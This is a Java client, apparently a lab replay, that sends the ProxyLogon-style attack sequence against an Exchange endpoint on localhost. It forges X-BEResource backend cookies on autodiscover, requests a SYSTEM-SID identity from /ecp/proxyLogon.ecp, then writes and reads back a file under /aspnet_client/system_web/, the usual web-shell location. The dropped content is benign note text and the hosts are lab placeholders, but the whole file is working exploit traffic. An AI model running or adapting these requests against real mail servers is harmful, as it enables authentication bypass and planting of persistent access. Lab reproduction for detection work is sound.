import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;

public class X17Client {
    static final String UA = "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36";
    static final String NOTE = "/aspnet_client/system_web/readme_91453.txt";

    public static void main(String[] args) throws Exception {
        String base = "http://127.0.0.1:" + (args.length > 0 ? args[0] : "8080");
        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(10)).build();
        HttpRequest probe = HttpRequest.newBuilder(URI.create(base + "/autodiscover/autodiscover.json?Pad=" + "A".repeat(37)
                + "&Protocol=Autodiscoverv1&Email=administrator%40lab.invalid%2Fmapi%2Fnspi&RequestId=20200302-7720"))
            .header("User-Agent", UA).header("x-requested-with", "XMLHttpRequest").header("Accept", "*/*")
            .header("accept-language", "en-US,en;q=0.9")
            .header("cookie", "X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522")
            .GET().build();
        HttpResponse<String> r = http.send(probe, HttpResponse.BodyHandlers.ofString());
        if (r.statusCode() >= 500) return;
        HttpRequest ident = HttpRequest.newBuilder(URI.create(base + "/ecp/proxyLogon.ecp"))
            .header("user-agent", UA).header("msexchlogonmailbox", "S-1-5-20").header("content-type", "application/json")
            .header("X-BEResource", "localhost@lab.invalid/ecp/proxyLogon.ecp")
            .POST(HttpRequest.BodyPublishers.ofString("{\"mailbox\": \"administrator@lab.invalid\", \"requestKind\": \"identity\", \"seq\": 1}")).build();
        String who = http.send(ident, HttpResponse.BodyHandlers.ofString()).body().trim();
        String text = String.join("\n", "note 1 of 3 for " + who, "note 2 of 3 for " + who, "note 3 of 3 for " + who);
        http.send(HttpRequest.newBuilder(URI.create(base + NOTE)).header("user-agent", UA).header("X-Note-Path", NOTE)
            .header("Content-Type", "text/plain").POST(HttpRequest.BodyPublishers.ofString(text)).build(), HttpResponse.BodyHandlers.discarding());
        System.out.println(http.send(HttpRequest.newBuilder(URI.create(base + NOTE)).header("User-Agent", UA)
            .header("x-requested-with", "XMLHttpRequest").header("Accept", "*/*").header("accept-language", "en-US,en;q=0.9").GET().build(),
            HttpResponse.BodyHandlers.ofString()).body().length());
    }
}
